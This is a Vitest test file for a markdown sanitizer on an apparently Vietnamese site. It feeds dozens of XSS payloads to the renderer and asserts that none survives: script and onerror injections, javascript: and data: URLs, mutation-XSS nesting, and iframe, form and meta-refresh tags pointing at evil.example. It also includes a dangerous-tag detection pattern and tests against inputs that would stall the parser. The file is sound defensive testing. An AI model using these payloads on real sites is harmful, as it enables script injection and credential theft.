import { describe, expect, it } from 'vitest';
import { renderRichText } from './render-rich-text.ts';

const render = (markdown: string, htmlWithin: 'kept' | 'dropped' = 'kept') => {
  const rendered = renderRichText(markdown, { htmlWithin });
  if (!rendered.ok) throw new Error(rendered.error.code);
  return rendered.value;
};

/** What must never come out, however it went in. */
const dangerous =
  /<(?:script|style|iframe|object|embed|form|input|svg|math|link|meta|base|video|audio|template)|<[^>]*(?:\son\w+\s*=|javascript:|data:|vbscript:|\sstyle=|\sclass=|srcset)/i;

describe('a text that was written', () => {
  it.each([
    '<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="/site-images/hoc-cung-mai-10x10.webp" onerror="alert(1)" style="position:fixed" srcset="https://evil.example/x 2x">',
    '<img src="https://evil.example/pixel.webp">',
    '![x](https://evil.example/pixel.webp)',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    '[bấm](javascript:alert(1))',
    '[bấm](JaVaScRiPt&#58;alert(1))',
    '[bấm](\u0001javascript:alert(1))',
    '[bấm](data:text/html,<script>alert(1)</script>)',
    '<a href="jav&#x09;ascript:alert(1)">bấm</a>',
    '<a href="vbscript:msgbox(1)" onclick="alert(1)">bấm</a>',
    '<style>*{display:none}</style>',
    '<p style="position:fixed;inset:0" class="x">phủ kín</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<form action="https://evil.example"><input name=password></form>',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href="//evil.example">',
    '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
    '<details open ontoggle=alert(1)>x</details>',
    '<div onmouseover="alert(1)">x</div>',
    '## <img src=x onerror=alert(1)> Đầu mục',
    '| a |\n|---|\n| <script>alert(1)</script> |',
    '![x](/site-images/hoc-cung-mai-10x10.webp "\\"><script>alert(1)</script>")',
    '<!--><script>alert(1)</script>-->',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '`<script>alert(1)</script>`<template><script>alert(1)</script></template>',
  ])('carries nothing that runs, covers the page or calls home: %j', (hostile) => {
    const { html, sections } = render(`Trước.\n\n${hostile}\n\nSau.`);
    expect(html).not.toMatch(dangerous);
    expect(html).toContain('Trước.');
    expect(sections.map(({ title }) => title).join()).not.toMatch(/onerror/);
  });

  it('leads only to our own pages, https and e-mail', () => {
    const { html } = render(
      '[a](/checkout) [b](https://vi.wikipedia.org) [c](mailto:ai@maivang.example) [d](http://evil.example) [e](//evil.example) [f](ftp://evil.example)',
    );
    expect([...html.matchAll(/<a[^>]*>/g)].map(([tag]) => tag)).toEqual([
      '<a href="/checkout">',
      '<a href="https://vi.wikipedia.org">',
      '<a href="mailto:ai@maivang.example">',
      '<a>',
      '<a>',
      '<a>',
    ]);
  });

  it('shows our own pictures with their size, late, and with their words below', () => {
    expect(
      render('![Nhành mai](/site-images/nhanh-mai-1440x900.webp "Nhành mai của cô Thảo & bạn")')
        .html,
    ).toBe(
      '<figure><img src="/site-images/nhanh-mai-1440x900.webp" alt="Nhành mai" width="1440" height="900" loading="lazy" decoding="async" /><figcaption>Nhành mai của cô Thảo &amp; bạn</figcaption></figure>',
    );
  });

  it('takes simple HTML where it is asked to, and drops it where it is not', () => {
    expect(render('Một <b>hai</b> <em>ba</em>').html).toBe(
      '<p>Một <strong>hai</strong> <em>ba</em></p>',
    );
    expect(render('Một <b>hai</b>', 'dropped').html).toBe('<p>Một hai</p>');
  });

  it('has one id per second-level head, in their order, and no other', () => {
    const { html, sections } = render(
      '# Một\n\n## Hai & **ba**\n\n### Bốn\n\n<p id="x">năm</p><h2 id="sign-in">sáu</h2>',
    );
    expect(sections).toEqual([
      { id: 'muc-1', title: 'Một' },
      { id: 'muc-2', title: 'Hai & ba' },
    ]);
    expect([...html.matchAll(/id="([^"]*)"/g)].map(([, id]) => id)).toEqual(['muc-1', 'muc-2']);
  });

  it('is read as its words only', () => {
    expect(
      render('## Đầu mục\n\nMột **hai** &lt;ba&gt;\n\n- bốn\n- năm').plainText.split(/\s+/),
    ).toEqual(['Đầu', 'mục', 'Một', 'hai', '<ba>', 'bốn', 'năm']);
  });
});

describe('a text that would hold the process', () => {
  const tooHard = 'MARKDOWN_TOO_HARD';
  const longest = 60_000;
  it.each(['_a*', '*a_', '_a*_', '!', 'a\n-\n', '> ', '>', '+ ', '1. ', '1) '])(
    'is refused at once by its code, also between others: %j',
    (unit) => {
      const many = unit.repeat(longest / unit.length);
      for (const text of [many, `Trước\n\n${many}\n\nSau`, `|a|\n|-|\n|${many}|`])
        expect([true, tooHard]).toContain(codeOf(text));
      expect(codeOf(many)).toBe(tooHard);
    },
  );

  it('is refused when its marks are closed again, one within the other', () => {
    for (const [open, close] of [
      ['*a **b ', ' b** a*'],
      ['~a ', ' a~'],
      ['*a ', ' a*'],
      ['> - ', ''],
    ] as const)
      expect(codeOf(open.repeat(2000) + close.repeat(2000))).toBe(tooHard);
  });

  it('is none that somebody writes: long paragraphs full of marks, and some layers', () => {
    const paragraph = 'Cắm **cành mai** _vàng_ ngày ~~Rằm~~ *Tết* '.repeat(30);
    const layers = Array.from({ length: 10 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n');
    for (const text of [`${paragraph}\n\n`.repeat(20), layers, `${'> '.repeat(10)}a`])
      expect(codeOf(text)).toBe(true);
  });

  function codeOf(text: string): true | string {
    const rendered = renderRichText(text, { htmlWithin: 'kept' });
    return rendered.ok || rendered.error.code;
  }
});
